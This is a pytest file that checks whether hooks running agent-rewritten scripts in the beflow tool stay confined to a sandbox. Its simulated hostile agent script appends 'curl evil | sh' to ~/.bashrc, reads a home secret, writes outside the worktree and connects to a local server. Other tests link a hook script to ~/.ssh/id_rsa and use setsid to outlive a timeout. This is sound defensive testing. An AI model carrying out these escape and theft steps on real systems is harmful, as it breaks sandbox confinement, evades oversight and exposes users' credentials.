"""A hook runs what the agent wrote (``after_run: sh ./check.sh``, ``make lint``): in a sandboxed run every hook runs
in the run's sandbox, as confined as the agent (docs/safety.md#the-sandbox). beflow as a real process, the pinned
acpx, the test agent rewriting the script a hook runs; with the sandbox off, the same script does reach outside
(so the probe is real), as docs/safety.md says plainly."""

from __future__ import annotations

import os
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.faults.conftest import beflow_run
from tests.support.projects import AutoProject, git

pytestmark = pytest.mark.slow

HOME_SECRET = "home-secret-3e91b7c4"
BASHRC = "# the user's own\n"
HOOKS = ("after_create", "before_run", "after_run", "before_remove")


@pytest.fixture
def listening() -> Iterator[tuple[int, list[int]]]:
    """A local TCP server (not on any allowlist): its port, and a count of the connections it accepted."""
    server = socket.create_server(("127.0.0.1", 0))
    accepted: list[int] = []

    def serve() -> None:
        while True:
            try:
                client, _ = server.accept()
            except OSError:
                return
            accepted.append(1)
            client.close()

    threading.Thread(target=serve, daemon=True).start()
    yield server.getsockname()[1], accepted
    server.close()


PROBE = """import socket, sys, urllib.request
port = int(sys.argv[2])
if sys.argv[1] == "direct":
    try:
        socket.create_connection(("127.0.0.1", port), timeout=5)
        print("CONNECTED")
    except OSError as e:
        print("NO", e)
else:
    try:
        urllib.request.urlopen("http://127.0.0.1:%d/" % port, timeout=5)
        print("FETCHED")
    except Exception as e:
        print("NO", e, getattr(e, "read", lambda: b"")().decode())
"""


def hostile_script(checkout: Path, port: int) -> str:
    """A check script as a hostile agent rewrites it: it writes outside the worktree (the user's checkout and shell
    start-up file), reads a secret in the home, and reaches a local server directly and through the proxy."""
    return "\n".join(
        [
            f"cat > .probe.py <<'EOF'\n{PROBE}EOF",
            f"echo checkout: $(echo planted 2>&1 > {checkout}/planted.txt && echo WROTE)",
            "echo bashrc: $(echo 'curl evil | sh' 2>&1 >> $HOME/.bashrc && echo WROTE)",
            "echo secret: $(cat $HOME/secret.txt 2>&1)",
            f"echo direct: $(python3 .probe.py direct {port} 2>&1)",
            f"echo proxied: $(python3 .probe.py proxied {port} 2>&1)",
            "",
        ]
    )


def found_in(log: str) -> dict[str, str]:
    """The script's ``what: result`` lines in a hook's log."""
    return dict(line.split(": ", 1) for line in log.splitlines() if line.split(": ", 1)[0] in SAID and ": " in line)


SAID = ("checkout", "bashrc", "secret", "direct", "proxied")


def plant_home() -> Path:
    home = Path(os.environ["HOME"])
    (home / "secret.txt").write_text(HOME_SECRET)
    (home / ".bashrc").write_text(BASHRC)
    return home


def commit_check_script(project: AutoProject) -> None:
    (project.directory / "check.sh").write_text("echo checked\n")
    git(project.directory, "add", "check.sh")
    git(project.directory, "commit", "-q", "-m", "a check script")


def escaped(text: str) -> str:
    """``text`` as the test agent's ``write`` directive takes it: one line, its escapes decoded by the agent."""
    return text.replace("\\", "\\\\").replace("\n", "\\n")


@pytest.mark.parametrize("sandboxed", [True, False], ids=["sandbox", "no-sandbox"])
def test_an_after_run_hook_running_what_the_agent_rewrote_is_as_confined_as_the_agent(
    auto_project: AutoProject, listening: tuple[int, list[int]], sandboxed: bool, no_leftover_processes: None
) -> None:
    port, accepted = listening
    home, checkout = plant_home(), auto_project.directory
    commit_check_script(auto_project)
    auto_project.configure(sandbox={"enabled": sandboxed}, hooks={"after_run": "sh ./check.sh"})
    script = escaped(hostile_script(checkout, port))
    key = auto_project.new_issue(f"write check.sh {script}", "say done", title="improve the check")

    done = beflow_run(auto_project, "--auto", key)

    assert done.code == 0, done.stderr + done.stdout
    record = auto_project.only_record()
    assert record.outcome == "succeeded", record.stop_reason
    log = (auto_project.run_dir(record) / "hooks" / "after_run.log").read_text()
    found = found_in(log)
    assert set(found) == set(SAID), log
    if not sandboxed:  # the same script, unconfined: it does all of it (docs/safety.md says so)
        assert found["secret"] == HOME_SECRET and (checkout / "planted.txt").exists()
        assert found["direct"] == "CONNECTED" and accepted
        assert (home / ".bashrc").read_text() != BASHRC
        return
    assert record.sandboxed
    assert "[in the run's sandbox: " in log  # the log says why what follows failed
    assert HOME_SECRET not in log and "No such file" in found["secret"]
    assert "Read-only file system" in found["checkout"] and not (checkout / "planted.txt").exists()
    assert (home / ".bashrc").read_text() == BASHRC  # (inside, the home is an empty one of the run's own)
    assert found["direct"].startswith("NO") and "Connection refused" in found["direct"]
    assert found["proxied"].startswith("NO HTTP Error 403") and "beflow's sandbox does not allow" in found["proxied"]
    assert accepted == []  # nothing reached the server
    assert record.blocked == {"127.0.0.1": 1}  # the proxy counted what the hook tried


def test_every_hook_on_a_continued_branch_runs_in_the_sandbox(
    auto_project: AutoProject, listening: tuple[int, list[int]], no_leftover_processes: None
) -> None:
    """A branch an earlier run's agent left its script on: ``after_create`` runs it before this run's agent starts,
    ``before_remove`` after the delivery; each of the four hooks is confined all the same."""
    port, accepted = listening
    home, checkout = plant_home(), auto_project.directory
    auto_project.configure(sandbox={"enabled": True}, hooks=dict.fromkeys(HOOKS, "sh ./check.sh"))
    key = auto_project.new_issue("write notes.txt more", title="continue")
    git(checkout, "checkout", "-q", "-b", f"beflow/{key}")
    (checkout / "check.sh").write_text(hostile_script(checkout, port))
    git(checkout, "add", "check.sh")
    git(checkout, "commit", "-q", "-m", "an earlier run's work")
    git(checkout, "checkout", "-q", "main")

    done = beflow_run(auto_project, "--auto", key)

    assert done.code == 0, done.stderr + done.stdout
    record = auto_project.only_record()
    assert record.outcome == "succeeded" and record.sandboxed, record.stop_reason
    for name in HOOKS:
        log = (auto_project.run_dir(record) / "hooks" / f"{name}.log").read_text()
        found = found_in(log)
        assert HOME_SECRET not in log and "No such file" in found["secret"], (name, log)
        assert "Read-only file system" in found["checkout"], (name, log)
        assert "Connection refused" in found["direct"] and "403" in found["proxied"], (name, log)
    assert not (checkout / "planted.txt").exists() and (home / ".bashrc").read_text() == BASHRC
    assert accepted == []
    assert record.blocked == {"127.0.0.1": len(HOOKS)}


def test_a_hook_whose_program_the_sandbox_hides_says_which_path_and_how_to_show_it(
    auto_project: AutoProject, no_leftover_processes: None
) -> None:
    """``after_create: ~/bin/setup``: the home is empty inside, so the hook cannot start; the run fails before its
    agent, naming the hidden path and the ``sandbox.read`` entry that shows it — with which the run goes through."""
    setup = Path(os.environ["HOME"]) / "bin" / "setup"
    setup.parent.mkdir()
    setup.write_text("#!/bin/sh\necho set up\n")
    setup.chmod(0o755)
    auto_project.configure(sandbox={"enabled": True}, hooks={"after_create": "~/bin/setup"})
    key = auto_project.new_issue("write a.txt x", title="set up first")

    done = beflow_run(auto_project, "--auto", key)

    assert done.code == 1
    (record,) = auto_project.records(key)
    assert record.outcome == "failed"
    reason = record.stop_reason or ""
    assert reason.startswith("hook after_create failed (exit 127); the sandbox hides ~/bin/setup"), reason
    assert 'add "~/bin" to sandbox.read' in reason
    assert auto_project.branches() == ["main"]

    auto_project.configure(sandbox={"enabled": True, "read": ["~/bin"]})
    git(auto_project.directory, "checkout", "-q", "main")  # (nothing changed it: the run left it as it was)
    assert beflow_run(auto_project, "issues", "set-status", key, "ready").code == 0
    again = beflow_run(auto_project, "--auto", key)
    assert again.code == 0, again.stderr + again.stdout
    log = (auto_project.run_dir(auto_project.records(key)[0]) / "hooks" / "after_create.log").read_text()
    assert "set up" in log


def test_a_hook_script_the_agent_linked_into_the_home_gets_no_advice_to_show_the_home(
    auto_project: AutoProject, no_leftover_processes: None
) -> None:
    """The agent makes ``check.sh`` a link to ``~/.ssh/id_rsa``: the hook fails inside (the home is empty there), and
    beflow does not suggest adding ``~/.ssh`` to ``sandbox.read`` — only what the config itself names is advised."""
    key_file = Path(os.environ["HOME"]) / ".ssh" / "id_rsa"
    key_file.parent.mkdir()
    key_file.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    commit_check_script(auto_project)
    auto_project.configure(sandbox={"enabled": True}, hooks={"after_run": "sh ./check.sh"})
    key = auto_project.new_issue(f"run rm check.sh && ln -s {key_file} check.sh", title="link it")

    done = beflow_run(auto_project, "--auto", key)

    assert done.code == 0, done.stderr + done.stdout
    record = auto_project.only_record()
    log = (auto_project.run_dir(record) / "hooks" / "after_run.log").read_text()
    assert "OPENSSH" not in log and "exit 2" in log, log  # sh: cannot open ./check.sh
    said = done.stdout + done.stderr + log
    assert "hook after_run failed (exit 2)" in said
    assert ".ssh" not in said.replace(f"ln -s {key_file}", "") and "sandbox.read" not in said


def test_a_sandboxed_hook_that_outlives_its_timeout_is_stopped_with_all_it_started(
    auto_project: AutoProject, no_leftover_processes: None
) -> None:
    """A hook that leaves a process behind in its own session (``setsid``) and hangs: its timeout stops it, and the
    sandbox ends with it — nothing it started runs on."""
    auto_project.configure(
        sandbox={"enabled": True},
        hooks={"after_create": {"command": "setsid sleep 300 & echo waiting; sleep 30", "timeout": 1}},
    )
    key = auto_project.new_issue("write a.txt x")

    done = beflow_run(auto_project, "--auto", key)

    assert done.code == 1
    record = auto_project.only_record()
    assert record.outcome == "failed" and "hook after_create failed" in (record.stop_reason or "")
    log = (auto_project.run_dir(record) / "hooks" / "after_create.log").read_text()
    assert "[in the run's sandbox: " in log and "waiting" in log and "timed out" in log


def test_a_before_remove_hook_reads_the_repository_in_the_sandbox_after_the_runs_objects_were_brought_in(
    auto_project: AutoProject, no_leftover_processes: None
) -> None:
    """``before_remove`` runs in the run's sandbox after the delivery brought the run's objects in; the worktree's
    git there still reads the repository's objects (the user's, read-only) and the run's commit: a hook that asks
    git about the worktree (``git status``, ``git log``) works as ``after_run`` does."""
    auto_project.configure(
        sandbox={"enabled": True},
        hooks=dict.fromkeys(("after_run", "before_remove"), "git status --short && git log --format=%s"),
    )
    key = auto_project.new_issue("write a.txt a\\n", "run git add a.txt && git commit -q -m agent-commit")

    done = beflow_run(auto_project, "--auto", key)

    assert done.code == 0, done.stderr + done.stdout
    record = auto_project.only_record()
    assert record.outcome == "succeeded" and record.sandboxed and record.commit, record.stop_reason
    assert "hook before_remove failed" not in done.stderr + done.stdout
    log = (auto_project.run_dir(record) / "hooks" / "before_remove.log").read_text()
    assert "[exit 0 " in log and "agent-commit" in log and "initial" in log, log
    assert not record.worktree_kept and not Path(record.worktree or "/").exists()
